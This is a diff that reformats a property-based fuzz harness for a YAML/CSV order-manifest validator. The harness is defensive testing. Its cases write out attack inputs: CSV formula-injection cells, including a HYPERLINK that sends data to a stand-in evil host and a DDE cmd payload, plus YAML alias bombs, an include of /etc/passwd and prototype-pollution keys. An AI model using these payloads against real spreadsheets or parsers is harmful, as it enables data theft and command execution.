@@ -42,7 +42,11 @@ interface Job {
 }
 
 const itemArb = fc.oneof(
-  fc.record({ itemType: fc.constant('Asset'), code: fc.constantFrom('A10001', 'A10004', 'G20001'), quantity: fc.integer({ min: 1, max: 5000 }) }),
+  fc.record({
+    itemType: fc.constant('Asset'),
+    code: fc.constantFrom('A10001', 'A10004', 'G20001'),
+    quantity: fc.integer({ min: 1, max: 5000 }),
+  }),
   fc.record({
     itemType: fc.constant('PriceCode'),
     code: fc.constant('DTF Full Color 10" x 10"'),
@@ -67,7 +71,15 @@ export const jobsArb: fc.Arbitrary<Job[]> = fc
     jobs.map((j, i) => ({
       orderNumber: `PO-${i + 1}`,
       ...(j.description === undefined ? {} : { description: j.description }),
-      deliveryAddress: { deliveryMethod: 'UPSGND', contactName: j.contactName, streetAddress: '1 Main St', city: j.city, state: 'TX', postalCode: '78701', countryCodeISO2: 'US' },
+      deliveryAddress: {
+        deliveryMethod: 'UPSGND',
+        contactName: j.contactName,
+        streetAddress: '1 Main St',
+        city: j.city,
+        state: 'TX',
+        postalCode: '78701',
+        countryCodeISO2: 'US',
+      },
       items: j.items,
     })),
   );
@@ -76,7 +88,23 @@ export function yamlOf(doc: unknown): string {
   return toYaml(doc, { lineWidth: 0 });
 }
 
-const CSV_HEADER = ['orderNumber', 'description', 'deliveryMethod', 'contactName', 'streetAddress', 'city', 'state', 'postalCode', 'country', 'itemType', 'code', 'quantity', 'customerReference', 'externalArtworkUrl', 'attr:Colors'];
+const CSV_HEADER = [
+  'orderNumber',
+  'description',
+  'deliveryMethod',
+  'contactName',
+  'streetAddress',
+  'city',
+  'state',
+  'postalCode',
+  'country',
+  'itemType',
+  'code',
+  'quantity',
+  'customerReference',
+  'externalArtworkUrl',
+  'attr:Colors',
+];
 
 function csvCell(v: unknown): string {
   const s = v === undefined || v === null ? '' : String(v);
@@ -89,8 +117,20 @@ export function csvRows(jobs: Job[]): string[][] {
     for (const it of j.items) {
       const a = j.deliveryAddress;
       rows.push([
-        j.orderNumber, j.description ?? '', a.deliveryMethod!, a.contactName!, a.streetAddress!, a.city!, a.state!, a.postalCode!, a.countryCodeISO2!,
-        String(it.itemType), String(it.code), String(it.quantity), String(it.customerReference ?? ''), String(it.externalArtworkUrl ?? ''),
+        j.orderNumber,
+        j.description ?? '',
+        a.deliveryMethod!,
+        a.contactName!,
+        a.streetAddress!,
+        a.city!,
+        a.state!,
+        a.postalCode!,
+        a.countryCodeISO2!,
+        String(it.itemType),
+        String(it.code),
+        String(it.quantity),
+        String(it.customerReference ?? ''),
+        String(it.externalArtworkUrl ?? ''),
         String((it.attributes as Record<string, string> | undefined)?.Colors ?? ''),
       ]);
     }
@@ -115,7 +155,8 @@ type Mut = fc.Arbitrary<{ mutation: string; doc: unknown; mustBeInvalid: boolean
 
 function dataMutations(jobs: Job[]): Mut {
   const n = jobs.length;
-  const doc = () => ({ version: 1, jobs: structuredClone(jobs) }) as { version: unknown; jobs: Job[] } & Record<string, unknown>;
+  const doc = () =>
+    ({ version: 1, jobs: structuredClone(jobs) }) as { version: unknown; jobs: Job[] } & Record<string, unknown>;
   const jobIx = fc.nat({ max: n - 1 });
   return fc.oneof(
     fc.tuple(jobIx, badQuantity).map(([j, v]) => {
@@ -123,25 +164,36 @@ function dataMutations(jobs: Job[]): Mut {
       d.jobs[j]!.items[0]!.quantity = v;
       return { mutation: 'wrong-type quantity', doc: d, mustBeInvalid: true };
     }),
-    fc.tuple(jobIx, pick(['orderNumber', 'items', 'deliveryAddress.deliveryMethod', 'items[0].itemType', 'items[0].code'])).map(([j, field]) => {
-      const d = doc();
-      const job = d.jobs[j] as unknown as Record<string, Record<string, unknown>>;
-      if (field === 'deliveryAddress.deliveryMethod') delete job.deliveryAddress!.deliveryMethod;
-      else if (field.startsWith('items[0].')) delete (job.items as unknown as Record<string, unknown>[])[0]![field.slice(9)];
-      else delete job[field];
-      return { mutation: `missing ${field}`, doc: d, mustBeInvalid: true };
-    }),
+    fc
+      .tuple(
+        jobIx,
+        pick(['orderNumber', 'items', 'deliveryAddress.deliveryMethod', 'items[0].itemType', 'items[0].code']),
+      )
+      .map(([j, field]) => {
+        const d = doc();
+        const job = d.jobs[j] as unknown as Record<string, Record<string, unknown>>;
+        if (field === 'deliveryAddress.deliveryMethod') delete job.deliveryAddress!.deliveryMethod;
+        else if (field.startsWith('items[0].'))
+          delete (job.items as unknown as Record<string, unknown>[])[0]![field.slice(9)];
+        else delete job[field];
+        return { mutation: `missing ${field}`, doc: d, mustBeInvalid: true };
+      }),
     pick(['version', 'jobs']).map((k) => {
       const d = doc();
       delete d[k];
       return { mutation: `missing ${k}`, doc: d, mustBeInvalid: true };
     }),
-    fc.tuple(jobIx, pick(['countryCodeIso2', 'ordernumber', 'Items', 'quantityy', 'dateDue ', '__proto__', 'constructor'])).map(([j, key]) => {
-      const d = doc();
-      const job = d.jobs[j] as unknown as Record<string, unknown>;
-      Object.defineProperty(job, key, { value: 'x', enumerable: true, configurable: true, writable: true });
-      return { mutation: `unknown key ${key}`, doc: d, mustBeInvalid: true };
-    }),
+    fc
+      .tuple(
+        jobIx,
+        pick(['countryCodeIso2', 'ordernumber', 'Items', 'quantityy', 'dateDue ', '__proto__', 'constructor']),
+      )
+      .map(([j, key]) => {
+        const d = doc();
+        const job = d.jobs[j] as unknown as Record<string, unknown>;
+        Object.defineProperty(job, key, { value: 'x', enumerable: true, configurable: true, writable: true });
+        return { mutation: `unknown key ${key}`, doc: d, mustBeInvalid: true };
+      }),
     jobIx.map((j) => {
       // With one job, a second copy of it makes the duplicate.
       const d = doc();
@@ -163,13 +215,15 @@ function dataMutations(jobs: Job[]): Mut {
       d.jobs[j]!.items[0]!.quantity = v;
       return { mutation: 'huge quantity', doc: d, mustBeInvalid: false };
     }),
-    fc.tuple(jobIx, fc.integer({ min: 10_000, max: 300_000 }), pick(['description', 'orderNumber', 'contactName'])).map(([j, len, field]) => {
-      const d = doc();
-      const long = '€𝄞x'.repeat(Math.ceil(len / 3)).slice(0, len);
-      if (field === 'contactName') d.jobs[j]!.deliveryAddress.contactName = long;
-      else (d.jobs[j] as unknown as Record<string, unknown>)[field] = long;
-      return { mutation: `very long ${field}`, doc: d, mustBeInvalid: false };
-    }),
+    fc
+      .tuple(jobIx, fc.integer({ min: 10_000, max: 300_000 }), pick(['description', 'orderNumber', 'contactName']))
+      .map(([j, len, field]) => {
+        const d = doc();
+        const long = '€𝄞x'.repeat(Math.ceil(len / 3)).slice(0, len);
+        if (field === 'contactName') d.jobs[j]!.deliveryAddress.contactName = long;
+        else (d.jobs[j] as unknown as Record<string, unknown>)[field] = long;
+        return { mutation: `very long ${field}`, doc: d, mustBeInvalid: false };
+      }),
     fc.tuple(jobIx, fc.integer({ min: 50, max: 400 })).map(([j, depth]) => {
       const d = doc();
       let v: unknown = 'x';
@@ -185,17 +239,35 @@ function dataMutations(jobs: Job[]): Mut {
   );
 }
 
-function textMutations(text: string, invalidBase: boolean): fc.Arbitrary<{ mutation: string; text: string; mustBeInvalid: boolean; keepsVerdict?: boolean }> {
+function textMutations(
+  text: string,
+  invalidBase: boolean,
+): fc.Arbitrary<{ mutation: string; text: string; mustBeInvalid: boolean; keepsVerdict?: boolean }> {
   return fc.oneof(
     fc.constant({ mutation: 'BOM', text: `\uFEFF${text}`, mustBeInvalid: invalidBase, keepsVerdict: true }),
     fc.array(pick(['\n', '\r\n']), { minLength: 1, maxLength: 8 }).map((eols) => {
       let i = 0;
-      return { mutation: 'mixed line endings', text: text.replace(/\n/g, () => eols[i++ % eols.length]!), mustBeInvalid: invalidBase, keepsVerdict: true };
+      return {
+        mutation: 'mixed line endings',
+        text: text.replace(/\n/g, () => eols[i++ % eols.length]!),
+        mustBeInvalid: invalidBase,
+        keepsVerdict: true,
+      };
     }),
-    fc.nat({ max: Math.max(0, text.length - 1) }).map((at) => ({ mutation: 'truncated', text: text.slice(0, at), mustBeInvalid: false })),
-    fc.nat({ max: Math.max(0, text.length - 1) }).chain((at) =>
-      fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }).map((junk) => ({ mutation: 'inserted junk', text: text.slice(0, at) + junk + text.slice(at), mustBeInvalid: false })),
-    ),
+    fc
+      .nat({ max: Math.max(0, text.length - 1) })
+      .map((at) => ({ mutation: 'truncated', text: text.slice(0, at), mustBeInvalid: false })),
+    fc
+      .nat({ max: Math.max(0, text.length - 1) })
+      .chain((at) =>
+        fc
+          .string({ unit: 'binary', minLength: 1, maxLength: 8 })
+          .map((junk) => ({
+            mutation: 'inserted junk',
+            text: text.slice(0, at) + junk + text.slice(at),
+            mustBeInvalid: false,
+          })),
+      ),
   );
 }
 
@@ -204,24 +276,40 @@ const yamlAttacks = fc.oneof(
   fc.integer({ min: 3, max: 12 }).map((levels) => {
     // The billion laughs: each level refers to the previous one ten times.
     const lines = ['version: 1', 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
-    for (let i = 1; i <= levels; i++) lines.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(',')}]`);
+    for (let i = 1; i <= levels; i++)
+      lines.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(',')}]`);
     lines.push(`jobs: *a${levels}`);
     return { mutation: 'alias bomb', text: `${lines.join('\n')}\n`, mustBeInvalid: true };
   }),
   fc.tuple(fc.integer({ min: 100, max: 20_000 }), pick(['[', '{a: ', '- '])).map(([depth, open]) => {
     const close = open === '[' ? ']' : open === '{a: ' ? '}' : '';
-    const body = open === '- ' ? Array.from({ length: Math.min(depth, 2000) }, (_, i) => `${'  '.repeat(i)}- `).join('\n') + 'x' : `${open.repeat(depth)}x${close.repeat(depth)}`;
-    return { mutation: 'deep nesting (text)', text: `version: 1\njobs:\n  - orderNumber: PO-1\n    description: ${open === '- ' ? '\n' : ''}${body}\n    items: []\n`, mustBeInvalid: true };
+    const body =
+      open === '- '
+        ? Array.from({ length: Math.min(depth, 2000) }, (_, i) => `${'  '.repeat(i)}- `).join('\n') + 'x'
+        : `${open.repeat(depth)}x${close.repeat(depth)}`;
+    return {
+      mutation: 'deep nesting (text)',
+      text: `version: 1\njobs:\n  - orderNumber: PO-1\n    description: ${open === '- ' ? '\n' : ''}${body}\n    items: []\n`,
+      mustBeInvalid: true,
+    };
   }),
   jobsArb.map((jobs) => {
     const text = yamlOf({ version: 1, jobs });
-    return { mutation: 'duplicate key', text: text.replace(/^(\s*- )orderNumber: (.*)$/m, '$1orderNumber: $2\n    orderNumber: $2-dup'), mustBeInvalid: true };
+    return {
+      mutation: 'duplicate key',
+      text: text.replace(/^(\s*- )orderNumber: (.*)$/m, '$1orderNumber: $2\n    orderNumber: $2-dup'),
+      mustBeInvalid: true,
+    };
   }),
   fc.constantFrom(
     { mutation: 'yaml tags', text: 'version: !!binary aGVsbG8=\njobs: !!set {a, b}\n', mustBeInvalid: true },
     { mutation: 'yaml custom tag', text: 'version: 1\njobs:\n  - !include /etc/passwd\n', mustBeInvalid: true },
     { mutation: 'multi-document', text: 'version: 1\njobs: []\n---\nversion: 1\n', mustBeInvalid: true },
-    { mutation: 'merge key bomb', text: 'a: &a {x: 1}\nb: &b {<<: [*a, *a, *a]}\nversion: 1\njobs: [*b]\n', mustBeInvalid: true },
+    {
+      mutation: 'merge key bomb',
+      text: 'a: &a {x: 1}\nb: &b {<<: [*a, *a, *a]}\nversion: 1\njobs: [*b]\n',
+      mustBeInvalid: true,
+    },
     { mutation: 'empty', text: '', mustBeInvalid: true },
     { mutation: 'only comment', text: '# nothing\n', mustBeInvalid: true },
     { mutation: 'scalar document', text: '42\n', mustBeInvalid: true },
@@ -229,7 +317,9 @@ const yamlAttacks = fc.oneof(
 );
 
 /** CSV-only attacks. */
-function csvMutations(jobs: Job[]): fc.Arbitrary<{ mutation: string; rows?: string[][]; text?: string; mustBeInvalid: boolean }> {
+function csvMutations(
+  jobs: Job[],
+): fc.Arbitrary<{ mutation: string; rows?: string[][]; text?: string; mustBeInvalid: boolean }> {
   const rows = csvRows(jobs);
   const body = rows.length - 1;
   const rowIx = fc.integer({ min: 1, max: body });
@@ -249,14 +339,27 @@ function csvMutations(jobs: Job[]): fc.Arbitrary<{ mutation: string; rows?: stri
       const x = clone().map((r, i) => [...r, i === 0 ? name : 'v']);
       return { mutation: `unknown column "${name}"`, rows: x, mustBeInvalid: true };
     }),
-    fc.tuple(rowIx, pick(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@cmd', "\t=1", '\r=1', '=cmd|\' /C calc\'!A0'])).map(([r, v]) => {
-      const x = clone();
-      x[r]![col('description')] = v;
-      x[r]![col('customerReference')] = v;
-      // Every row of the job must agree on description, so set it on all of that job's rows.
-      for (const row of x) if (row[0] === x[r]![0]) row[col('description')] = v;
-      return { mutation: 'formula cells', rows: x, mustBeInvalid: false };
-    }),
+    fc
+      .tuple(
+        rowIx,
+        pick([
+          '=HYPERLINK("http://evil.example/?"&A1,"x")',
+          '+SUM(1,2)',
+          '-2+3',
+          '@cmd',
+          '\t=1',
+          '\r=1',
+          "=cmd|' /C calc'!A0",
+        ]),
+      )
+      .map(([r, v]) => {
+        const x = clone();
+        x[r]![col('description')] = v;
+        x[r]![col('customerReference')] = v;
+        // Every row of the job must agree on description, so set it on all of that job's rows.
+        for (const row of x) if (row[0] === x[r]![0]) row[col('description')] = v;
+        return { mutation: 'formula cells', rows: x, mustBeInvalid: false };
+      }),
     rowIx.map((r) => {
       const x = clone();
       x[r] = x[r]!.slice(0, 3);
@@ -275,7 +378,9 @@ function csvMutations(jobs: Job[]): fc.Arbitrary<{ mutation: string; rows?: stri
   );
 }
 
-const garbage = fc.uint8Array({ minLength: 1, maxLength: 4096 }).map((bytes) => ({ mutation: 'binary garbage', content: bytes }));
+const garbage = fc
+  .uint8Array({ minLength: 1, maxLength: 4096 })
+  .map((bytes) => ({ mutation: 'binary garbage', content: bytes }));
 
 function flip(bytes: Uint8Array, at: number[], to: number[]): Uint8Array {
   const out = Uint8Array.from(bytes);
@@ -286,49 +391,114 @@ function flip(bytes: Uint8Array, at: number[], to: number[]): Uint8Array {
 }
 
 export const yamlCaseArb: fc.Arbitrary<FuzzCase> = fc.oneof(
-  { weight: 1, arbitrary: jobsArb.map((jobs) => ({ ext: 'yaml' as const, mutation: 'none (valid)', content: yamlOf({ version: 1, jobs }), mustBeInvalid: false })) },
-  { weight: 5, arbitrary: jobsArb.chain((jobs) => dataMutations(jobs)).map((m) => ({ ext: 'yaml' as const, mutation: m.mutation, content: safeYaml(m.doc), mustBeInvalid: m.mustBeInvalid })) },
+  {
+    weight: 1,
+    arbitrary: jobsArb.map((jobs) => ({
+      ext: 'yaml' as const,
+      mutation: 'none (valid)',
+      content: yamlOf({ version: 1, jobs }),
+      mustBeInvalid: false,
+    })),
+  },
+  {
+    weight: 5,
+    arbitrary: jobsArb
+      .chain((jobs) => dataMutations(jobs))
+      .map((m) => ({
+        ext: 'yaml' as const,
+        mutation: m.mutation,
+        content: safeYaml(m.doc),
+        mustBeInvalid: m.mustBeInvalid,
+      })),
+  },
   {
     weight: 3,
     arbitrary: jobsArb.chain((jobs) => {
       const base = yamlOf({ version: 1, jobs });
-      return textMutations(base, false).map((m) => ({ ext: 'yaml' as const, mutation: m.mutation, content: m.text, mustBeInvalid: m.mustBeInvalid, ...(m.keepsVerdict ? { sameVerdictAs: base } : {}) }));
+      return textMutations(base, false).map((m) => ({
+        ext: 'yaml' as const,
+        mutation: m.mutation,
+        content: m.text,
+        mustBeInvalid: m.mustBeInvalid,
+        ...(m.keepsVerdict ? { sameVerdictAs: base } : {}),
+      }));
     }),
   },
-  { weight: 2, arbitrary: yamlAttacks.map((m) => ({ ext: 'yaml' as const, mutation: m.mutation, content: m.text, mustBeInvalid: m.mustBeInvalid })) },
+  {
+    weight: 2,
+    arbitrary: yamlAttacks.map((m) => ({
+      ext: 'yaml' as const,
+      mutation: m.mutation,
+      content: m.text,
+      mustBeInvalid: m.mustBeInvalid,
+    })),
+  },
   {
     weight: 1,
-    arbitrary: fc.tuple(jobsArb, fc.array(fc.nat(), { minLength: 1, maxLength: 6 }), fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 6, maxLength: 6 })).map(([jobs, at, to]) => ({
-      ext: 'yaml' as const,
-      mutation: 'byte flips',
-      content: flip(new TextEncoder().encode(yamlOf({ version: 1, jobs })), at, to),
-      mustBeInvalid: false,
-    })),
+    arbitrary: fc
+      .tuple(
+        jobsArb,
+        fc.array(fc.nat(), { minLength: 1, maxLength: 6 }),
+        fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 6, maxLength: 6 }),
+      )
+      .map(([jobs, at, to]) => ({
+        ext: 'yaml' as const,
+        mutation: 'byte flips',
+        content: flip(new TextEncoder().encode(yamlOf({ version: 1, jobs })), at, to),
+        mustBeInvalid: false,
+      })),
   },
   { weight: 1, arbitrary: garbage.map((g) => ({ ext: 'yaml' as const, ...g, mustBeInvalid: true })) },
 );
 
 export const csvCaseArb: fc.Arbitrary<FuzzCase> = fc.oneof(
-  { weight: 1, arbitrary: jobsArb.map((jobs) => ({ ext: 'csv' as const, mutation: 'none (valid)', content: csvOf(csvRows(jobs)), mustBeInvalid: false })) },
+  {
+    weight: 1,
+    arbitrary: jobsArb.map((jobs) => ({
+      ext: 'csv' as const,
+      mutation: 'none (valid)',
+      content: csvOf(csvRows(jobs)),
+      mustBeInvalid: false,
+    })),
+  },
   {
     weight: 5,
-    arbitrary: jobsArb.chain((jobs) => csvMutations(jobs)).map((m) => ({ ext: 'csv' as const, mutation: m.mutation, content: m.text ?? csvOf(m.rows!), mustBeInvalid: m.mustBeInvalid })),
+    arbitrary: jobsArb
+      .chain((jobs) => csvMutations(jobs))
+      .map((m) => ({
+        ext: 'csv' as const,
+        mutation: m.mutation,
+        content: m.text ?? csvOf(m.rows!),
+        mustBeInvalid: m.mustBeInvalid,
+      })),
   },
   {
     weight: 3,
     arbitrary: jobsArb.chain((jobs) => {
       const base = csvOf(csvRows(jobs));
-      return textMutations(base, false).map((m) => ({ ext: 'csv' as const, mutation: m.mutation, content: m.text, mustBeInvalid: m.mustBeInvalid, ...(m.keepsVerdict ? { sameVerdictAs: base } : {}) }));
+      return textMutations(base, false).map((m) => ({
+        ext: 'csv' as const,
+        mutation: m.mutation,
+        content: m.text,
+        mustBeInvalid: m.mustBeInvalid,
+        ...(m.keepsVerdict ? { sameVerdictAs: base } : {}),
+      }));
     }),
   },
   {
     weight: 1,
-    arbitrary: fc.tuple(jobsArb, fc.array(fc.nat(), { minLength: 1, maxLength: 6 }), fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 6, maxLength: 6 })).map(([jobs, at, to]) => ({
-      ext: 'csv' as const,
-      mutation: 'byte flips',
-      content: flip(new TextEncoder().encode(csvOf(csvRows(jobs))), at, to),
-      mustBeInvalid: false,
-    })),
+    arbitrary: fc
+      .tuple(
+        jobsArb,
+        fc.array(fc.nat(), { minLength: 1, maxLength: 6 }),
+        fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 6, maxLength: 6 }),
+      )
+      .map(([jobs, at, to]) => ({
+        ext: 'csv' as const,
+        mutation: 'byte flips',
+        content: flip(new TextEncoder().encode(csvOf(csvRows(jobs))), at, to),
+        mustBeInvalid: false,
+      })),
   },
   { weight: 1, arbitrary: garbage.map((g) => ({ ext: 'csv' as const, ...g, mustBeInvalid: true })) },
 );
@@ -373,18 +543,29 @@ export async function checkCase(c: FuzzCase, dir: string, secrets: string[] = []
     return { status: 'unreadable', problems };
   }
   const json = await readFile(paths.json, 'utf8');
-  const report = JSON.parse(json) as { jobs: { errors: { source: unknown }[]; items: { errors: { source: unknown }[] }[] }[]; errors: { source: unknown; message: string }[] };
+  const report = JSON.parse(json) as {
+    jobs: { errors: { source: unknown }[]; items: { errors: { source: unknown }[] }[] }[];
+    errors: { source: unknown; message: string }[];
+  };
   const schemaErrors = await reportSchemaErrors(report);
   if (schemaErrors) problems.push(`report fails its schema: ${schemaErrors}`);
-  const hasErrorsTxt = await stat(paths.errors).then(() => true, () => false);
-  if ((outcome.status === 'invalid') !== hasErrorsTxt) problems.push(`status ${outcome.status} but errors.txt ${hasErrorsTxt ? 'exists' : 'missing'}`);
-  if (c.mutation === 'none (valid)' && outcome.status !== 'valid') problems.push(`a generated valid manifest was refused: ${json.slice(0, 600)}`);
-  if (c.mustBeInvalid && outcome.status !== 'invalid') problems.push(`"${c.mutation}" must be invalid, got ${outcome.status}`);
+  const hasErrorsTxt = await stat(paths.errors).then(
+    () => true,
+    () => false,
+  );
+  if ((outcome.status === 'invalid') !== hasErrorsTxt)
+    problems.push(`status ${outcome.status} but errors.txt ${hasErrorsTxt ? 'exists' : 'missing'}`);
+  if (c.mutation === 'none (valid)' && outcome.status !== 'valid')
+    problems.push(`a generated valid manifest was refused: ${json.slice(0, 600)}`);
+  if (c.mustBeInvalid && outcome.status !== 'invalid')
+    problems.push(`"${c.mutation}" must be invalid, got ${outcome.status}`);
   // A file-level error may have source null (the schema: the whole input; errors.txt names
   // the file); an error of a job or an item must say where that job or item is.
   const jobErrors = report.jobs.flatMap((j) => [...j.errors, ...j.items.flatMap((i) => i.errors)]);
-  if (outcome.status === 'invalid' && report.errors.length + jobErrors.length === 0) problems.push('invalid without any error');
-  for (const e of jobErrors) if (!e.source) problems.push(`error without a location: ${JSON.stringify(e).slice(0, 200)}`);
+  if (outcome.status === 'invalid' && report.errors.length + jobErrors.length === 0)
+    problems.push('invalid without any error');
+  for (const e of jobErrors)
+    if (!e.source) problems.push(`error without a location: ${JSON.stringify(e).slice(0, 200)}`);
   if (hasErrorsTxt) {
     const name = basename(file);
     for (const line of (await readFile(paths.errors, 'utf8')).split('\n').filter(Boolean)) {
@@ -394,14 +575,21 @@ export async function checkCase(c: FuzzCase, dir: string, secrets: string[] = []
   const csvText = await readFile(paths.csv, 'utf8');
   try {
     const cells = (parseCsv(csvText, { bom: true, relax_column_count: true }) as string[][]).flat();
-    for (const cell of cells) if (FORMULA.test(cell) && !PLAIN_NUMBER.test(cell)) problems.push(`formula cell in result.csv: ${JSON.stringify(cell.slice(0, 80))}`);
+    for (const cell of cells)
+      if (FORMULA.test(cell) && !PLAIN_NUMBER.test(cell))
+        problems.push(`formula cell in result.csv: ${JSON.stringify(cell.slice(0, 80))}`);
   } catch (err) {
     problems.push(`result.csv does not parse: ${(err as Error).message}`);
   }
   for (const s of secrets) if (json.includes(s) || csvText.includes(s)) problems.push('secret in a report');
   if (c.sameVerdictAs !== undefined) {
-    const base = await checkCase({ ext: c.ext, mutation: 'base', content: c.sameVerdictAs, mustBeInvalid: false }, dir, secrets);
-    if (base.status !== outcome.status) problems.push(`"${c.mutation}" changed the verdict: ${base.status} → ${outcome.status}`);
+    const base = await checkCase(
+      { ext: c.ext, mutation: 'base', content: c.sameVerdictAs, mustBeInvalid: false },
+      dir,
+      secrets,
+    );
+    if (base.status !== outcome.status)
+      problems.push(`"${c.mutation}" changed the verdict: ${base.status} → ${outcome.status}`);
   }
   return { status: outcome.status, problems };
 }
@@ -423,7 +611,13 @@ export interface FuzzTally {
  * `numRuns` generated cases through checkCase; throws (with fast-check's shrunk
  * counterexample and seed) on the first case with a problem.
  */
-export async function runFuzz(opts: { numRuns: number; seed: number; dir: string; secrets?: string[]; arb?: fc.Arbitrary<FuzzCase> }): Promise<FuzzTally> {
+export async function runFuzz(opts: {
+  numRuns: number;
+  seed: number;
+  dir: string;
+  secrets?: string[];
+  arb?: fc.Arbitrary<FuzzCase>;
+}): Promise<FuzzTally> {
   const t0 = Date.now();
   const tally: FuzzTally = { cases: 0, invalid: 0, valid: 0, byMutation: {}, seconds: 0 };
   await fc.assert(
@@ -455,7 +649,11 @@ export interface RunFuzzResult {
  * sandbox, debug logs on: each must exit 1, create no job, and leak neither the client
  * secret nor a token into the log or the reports.
  */
-export async function runInvalidThroughRun(opts: { numRuns: number; seed: number; dir: string }): Promise<RunFuzzResult> {
+export async function runInvalidThroughRun(opts: {
+  numRuns: number;
+  seed: number;
+  dir: string;
+}): Promise<RunFuzzResult> {
   const { startSandbox } = await import('../../src/sandbox/index.js');
   const { runPipelineCommand } = await import('../../src/cli/run-pipeline.js');
   const { Writable } = await import('node:stream');
@@ -475,7 +673,11 @@ export async function runInvalidThroughRun(opts: { numRuns: number; seed: number
     };
     const tokenRes = await fetch(`${r.authUrl}/realms/${r.realm}/protocol/openid-connect/token`, {
       method: 'POST',
-      body: new URLSearchParams({ grant_type: 'client_credentials', client_id: a.clientId, client_secret: a.clientSecret }),
+      body: new URLSearchParams({
+        grant_type: 'client_credentials',
+        client_id: a.clientId,
+        client_secret: a.clientSecret,
+      }),
     });
     const token = ((await tokenRes.json()) as { access_token: string }).access_token;
     const invalid = fc.oneof(yamlCaseArb, csvCaseArb).filter((c) => c.mustBeInvalid);
@@ -490,19 +692,26 @@ export async function runInvalidThroughRun(opts: { numRuns: number; seed: number
             cb();
           },
         });
-        const code = await runPipelineCommand({ command: 'run', files: [file], flags: {} }, { stdout: sink, stderr: sink, env, cwd: opts.dir });
+        const code = await runPipelineCommand(
+          { command: 'run', files: [file], flags: {} },
+          { stdout: sink, stderr: sink, env, cwd: opts.dir },
+        );
         const created = (await sandbox.admin.jobs()).length;
-        const reports = await Promise.all(['result.json', 'result.csv', 'errors.txt'].map((x) => readFile(`${file}.${x}`, 'utf8').catch(() => '')));
+        const reports = await Promise.all(
+          ['result.json', 'result.csv', 'errors.txt'].map((x) => readFile(`${file}.${x}`, 'utf8').catch(() => '')),
+        );
         const problems: string[] = [];
         if (code !== 1) problems.push(`exit ${code}, expected 1`);
         if (created !== 0) problems.push(`${created} job(s) created from an invalid manifest`);
-        if (!log.includes('"level":20') && !log.includes('DEBUG')) problems.push('no debug output to scan (the scan would prove nothing)');
+        if (!log.includes('"level":20') && !log.includes('DEBUG'))
+          problems.push('no debug output to scan (the scan would prove nothing)');
         for (const text of [log, ...reports]) {
           if (text.includes(a.clientSecret)) problems.push('client secret leaked');
           if (text.includes(token)) problems.push('token leaked');
           if (/Bearer\s+[A-Za-z0-9._~+/-]{8,}/.test(text)) problems.push('bearer header leaked');
         }
-        if (problems.length > 0) throw new Error(`${problems.join('; ')}\n  case: ${describeCase(c)}\n  log: ${log.slice(-1500)}`);
+        if (problems.length > 0)
+          throw new Error(`${problems.join('; ')}\n  case: ${describeCase(c)}\n  log: ${log.slice(-1500)}`);
         result.cases++;
         result.exitCodes[code] = (result.exitCodes[code] ?? 0) + 1;
         result.created += created;
